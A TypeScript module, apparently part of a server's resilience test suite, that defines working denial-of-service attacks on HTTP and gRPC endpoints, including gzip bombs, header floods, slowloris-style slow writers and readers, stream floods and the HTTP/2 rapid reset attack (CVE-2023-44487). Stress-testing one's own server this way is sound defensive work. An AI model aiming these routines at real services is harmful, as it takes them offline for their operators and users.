/** What takes memory or time of a server: each goes on for as long as its process lives. */
import { gzipSync } from 'node:zlib'
import type { Writable } from 'node:stream'
import { framed } from '../grpc-client.ts'
import { dial, dialHttp2, keepUp, MIB, open, pour, request } from './dialling.ts'
import type { Place } from './part.ts'

/** Begins, and goes on by itself. */
export type Attack = (place: Place) => void

const PIECE = Buffer.alloc(65_536, 0x20)
const JSON_TYPE = 'Content-Type: application/json'

export const ATTACKS: Readonly<Record<string, Attack>> = {
  /** Chunks without end, and more bytes than were said. */
  'endless bodies': ({ url, tokens }) =>
    keepUp(8, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const chunk = `${PIECE.length.toString(16)}\r\n${PIECE.toString()}\r\n`
      socket.write(
        request('POST /v1/tasks HTTP/1.1', tokens.attacker, [JSON_TYPE, 'Transfer-Encoding: chunked']),
      )
      pour(socket, chunk)
    }),
  'compressed bombs': ({ url, grpcUrl, tokens }) => {
    const bomb = gzipSync(Buffer.alloc(256 * MIB))
    keepUp(4, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const headers = [
        JSON_TYPE,
        'Content-Encoding: gzip',
        `Content-Length: ${bomb.length}`,
        'Connection: close',
      ]
      socket.end(
        Buffer.concat([Buffer.from(request('POST /v1/tasks HTTP/1.1', tokens.attacker, headers)), bomb]),
      )
    })
    let session = dialHttp2(grpcUrl)
    const current = (): typeof session => {
      if (session.closed || session.destroyed) session = dialHttp2(grpcUrl)
      return session
    }
    keepUp(4, (again) => {
      const stream = open(current(), 'Add', tokens.attacker, { 'grpc-encoding': 'gzip' })
      stream.resume().once('close', again)
      stream.end(framed(bomb, { flag: 1 }))
    })
  },
  'floods of headers': ({ url, grpcUrl }) => {
    keepUp(8, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      socket.write('GET /v1/tasks HTTP/1.1\r\nHost: localhost\r\n')
      pour(socket, `x-${'a'.repeat(20)}: ${'b'.repeat(4_000)}\r\n`)
    })
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const many = Object.fromEntries(
        Array.from({ length: 120 }, (_, index) => [`x-${index}`, 'y'.repeat(500)]),
      )
      const stream = session.request({ ':method': 'POST', ':path': '/millrace.v1.StoreService/Now', ...many })
      stream.on('error', () => undefined)
      stream.resume().once('close', () => session.destroy())
    })
  },
  /** Bodies and messages that come little by little, and never whole. */
  'slow writers': ({ url, grpcUrl, tokens }) => {
    const dribble = (stream: Writable): void => {
      const timer = setInterval(() => stream.writableLength === 0 && stream.write(PIECE), 500)
      stream.once('close', () => clearInterval(timer))
    }
    keepUp(100, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const length = `Content-Length: ${15 * MIB}`
      socket.write(request('POST /v1/tasks HTTP/1.1', tokens.attacker, [JSON_TYPE, length]))
      dribble(socket)
    })
    keepUp(20, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      for (let index = 0; index < 20; index++) {
        const stream = open(session, 'Add', tokens.attacker)
        stream.resume().write(framed(Buffer.alloc(1_000), { length: 15 * MIB }))
        dribble(stream)
      }
    })
  },
  /** Large bodies and messages of which all but the last byte comes at once, and again as soon as they are cut off. */
  'unfinished bodies': ({ url, grpcUrl, tokens }) => {
    keepUp(100, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const length = `Content-Length: ${15 * MIB}`
      socket.write(request('POST /v1/tasks HTTP/1.1', tokens.attacker, [JSON_TYPE, length]))
      pour(socket, PIECE, 160)
      const timer = setInterval(() => socket.write(' '), 1_000)
      socket.once('close', () => clearInterval(timer))
    })
    keepUp(20, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      for (let index = 0; index < 20; index++) {
        const stream = open(session, 'Add', tokens.attacker)
        stream.resume().write(framed(Buffer.alloc(1_000), { length: 15 * MIB }))
        pour(stream, PIECE, 64)
      }
    })
  },
  /** Answers and streams that nobody takes. */
  'slow readers': ({ url, grpcUrl, tokens }) => {
    keepUp(100, (again) => {
      const socket = dial(url)
      socket.pause().once('close', again)
      socket.write(request('GET /v1/tasks?limit=1000&queue=long HTTP/1.1', tokens.attacker).repeat(5))
    })
    keepUp(50, (again) => {
      const socket = dial(url)
      socket.pause().once('close', again)
      socket.write(request('GET /v1/events HTTP/1.1', tokens.attacker))
    })
    keepUp(5, (again) => {
      const session = dialHttp2(grpcUrl, { initialWindowSize: 0 })
      session.once('close', again)
      // a filter that says nothing, and the longest page
      const list = framed(Buffer.from([0x0a, 0x00, 0x10, 0xe8, 0x07]))
      for (let index = 0; index < 40; index++) open(session, 'List', tokens.attacker).pause().end(list)
      for (let index = 0; index < 20; index++)
        open(session, 'WatchHints', tokens.attacker)
          .pause()
          .end(framed(Buffer.alloc(0)))
    })
  },
  'connections that say nothing': ({ url, grpcUrl }) => {
    for (const where of [url, grpcUrl])
      keepUp(1_500, (again) => {
        dial(where).resume().once('close', again)
      })
  },
  'floods of streams': ({ grpcUrl, tokens }) =>
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const now = framed(Buffer.alloc(0))
      const more = (): void => {
        if (session.destroyed || session.closed) return
        for (let index = 0; index < 100; index++) open(session, 'Now', tokens.attacker).resume().end(now)
        setTimeout(more, 50)
      }
      session.once('connect', more)
    }),
  /** Streams that are begun and reset at once (CVE-2023-44487). */
  'rapid resets': ({ grpcUrl, tokens }) =>
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const more = (): void => {
        if (session.destroyed || session.closed) return
        for (let index = 0; index < 200; index++) open(session, 'Now', tokens.attacker).close(8)
        setImmediate(more)
      }
      session.once('connect', more)
    }),
}
